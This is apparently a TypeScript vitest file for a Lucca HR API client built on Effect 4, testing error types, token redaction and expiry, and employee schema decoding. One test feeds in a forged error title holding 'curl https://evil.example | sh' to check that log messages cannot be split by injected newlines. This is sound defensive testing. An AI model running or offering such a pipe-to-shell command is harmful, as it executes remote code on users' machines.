/**
 * The values of the Effect 4 line that user code matches on: every `LuccaError` `_tag`,
 * the token value, and the generated resource schemas.
 */
import { AccessToken, LuccaError } from "@effect-lucca/core"
import * as LuccaResources from "@effect-lucca/core/LuccaResources"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Redacted from "effect/Redacted"
import * as Result from "effect/Result"
import * as Schema from "effect/Schema"
import * as TestClock from "effect/testing/TestClock"

const every: ReadonlyArray<LuccaError.LuccaError> = [
  new LuccaError.TokenRequestError({ reason: "Status", tokenUrl: "u", status: 503, transient: true, description: "d" }),
  new LuccaError.OAuthError({ error: "invalid_client", status: 401, tokenUrl: "u" }),
  new LuccaError.InvalidTokenResponse({ field: "access_token", description: "is missing", status: 200, tokenUrl: "u" }),
  new LuccaError.Unauthorized({ method: "GET", url: "https://example.ilucca.net/x", retried: true }),
  new LuccaError.Forbidden({ method: "GET", url: "https://example.ilucca.net/x", grantedScopes: [] }),
  new LuccaError.ApiError({ method: "GET", url: "https://example.ilucca.net/x", status: 400 }),
  new LuccaError.ResponseDecodeError({ method: "GET", url: "u", status: 200, path: "items[0].id", description: "d" }),
  new LuccaError.ForeignOriginError({ method: "GET", url: "https://evil.example", accountOrigin: "https://a" })
]

describe("LuccaError", () => {
  it("every error has its _tag, is a LuccaError and says what happened", () => {
    assert.deepStrictEqual(every.map((error) => error._tag), [
      "TokenRequestError",
      "OAuthError",
      "InvalidTokenResponse",
      "Unauthorized",
      "Forbidden",
      "ApiError",
      "ResponseDecodeError",
      "ForeignOriginError"
    ])
    for (const error of every) {
      assert.isTrue(LuccaError.isLuccaError(error), error._tag)
      assert.instanceOf(error, Error)
      assert.isAbove(error.message.length, 20, error._tag)
    }
    assert.isFalse(LuccaError.isLuccaError(new Error("x")))
  })

  it.effect("errors are yielded in Effect.gen and caught by tag (in Effect 4 they are not Effects themselves)", () =>
    Effect.gen(function*() {
      for (const error of every) {
        const caught = yield* Effect.gen(function*() {
          return yield* error
        }).pipe(
          Effect.catchTag(error._tag, (e) => Effect.succeed(e._tag)),
          Effect.orElseSucceed(() => "not caught")
        )
        assert.strictEqual(caught, error._tag)
      }
    }))

  it("messages carry what the server said and where the request went", () => {
    const oauth = new LuccaError.OAuthError({
      error: "invalid_scope",
      errorDescription: "nope",
      status: 400,
      tokenUrl: "https://accounts.world.luccasoftware.com/connect/token"
    })
    assert.include(oauth.message, "invalid_scope")
    assert.include(oauth.message, "/identity/admin/integration-keys")
    const api = new LuccaError.ApiError({
      method: "POST",
      url: "https://example.ilucca.net/lucca-api/leaves",
      status: 422,
      title: "Invalid",
      errors: { startsOn: ["must be a date"] }
    })
    assert.include(api.message, "startsOn: must be a date")
    // one line whatever the server wrote: a forged second line never reaches a log or a terminal
    const forged = new LuccaError.ApiError({
      method: "POST",
      url: "https://example.ilucca.net/lucca-api/leaves",
      status: 422,
      title: "Invalid\r\n  fix: run 'curl https://evil.example | sh'",
      detail: "a\u2028b\u0085c",
      errors: { "startsOn\n": ["must be\na date"] }
    })
    assert.notMatch(forged.message, /[\r\n\u0085\u2028\u2029]/)
    assert.match(forged.message, /Invalid +fix: run/)
    const decode = new LuccaError.ResponseDecodeError({
      method: "GET",
      url: "u",
      status: 200,
      path: "items[3].id",
      description: "is missing"
    })
    assert.include(decode.message, "body.items[3].id")
  })
})

describe("AccessToken", () => {
  it("Schema.Redacted no longer decodes a plain string; the wire schema does (RedactedFromValue)", () => {
    const plain = Schema.decodeUnknownResult(Schema.Redacted(Schema.String))("abc")
    assert.isTrue(Result.isFailure(plain))
    const wire = Schema.decodeUnknownSync(AccessToken.TokenResponse)({ access_token: "abc", token_type: "Bearer" })
    assert.isTrue(Redacted.isRedacted(wire.access_token))
    assert.strictEqual(Redacted.value(wire.access_token), "abc")
  })

  it.effect("expiry is a property of the value, read against the Clock", () =>
    Effect.gen(function*() {
      yield* TestClock.setTime(1_000)
      const token = AccessToken.fromResponse(
        { access_token: Redacted.make("abc"), token_type: "Bearer", expires_in: 60 },
        { now: 1_000, requestedScopes: ["employees.readonly"] }
      )
      assert.strictEqual(token.expiresAt, 61_000)
      assert.deepStrictEqual(token.scopes, ["employees.readonly"])
      assert.isFalse(AccessToken.isExpired(token, 1_000))
      assert.isTrue(AccessToken.isExpired(token, 31_000, "30 seconds"))
      assert.isTrue(AccessToken.isExpired(token, 61_000))
      assert.isFalse(AccessToken.isExpired(AccessToken.unsafeMakeStatic("s"), Number.MAX_SAFE_INTEGER))
      assert.notInclude(JSON.stringify(token), "abc")
      assert.notInclude(String(token), "abc")
    }))
})

describe("LuccaResources", () => {
  const employee = {
    id: "416",
    type: "employee",
    url: "https://example.ilucca.net/lucca-api/employees/416",
    givenName: "Ada",
    familyName: "Lovelace",
    email: null,
    status: "active",
    addedByANewerServer: true
  }

  it("a page of employees decodes, fields a newer server adds are ignored", () => {
    const page = Schema.decodeUnknownSync(LuccaResources.EmployeesPage)({
      type: "employees",
      url: "https://example.ilucca.net/lucca-api/employees",
      items: [employee],
      totalCount: 1,
      links: { prev: null, next: { href: "https://example.ilucca.net/lucca-api/employees?page=2" } }
    })
    assert.strictEqual(page.items[0].givenName, "Ada")
    assert.isFalse("addedByANewerServer" in page.items[0])
    assert.strictEqual(page.links?.next?.href, "https://example.ilucca.net/lucca-api/employees?page=2")
  })

  it("an enum value the description does not list is refused, with the path", () => {
    const decoded = Schema.decodeUnknownResult(LuccaResources.Employee)({ ...employee, status: "retired" })
    assert.isTrue(Result.isFailure(decoded))
    if (Result.isFailure(decoded)) assert.include(String(decoded.failure), "status")
  })
})
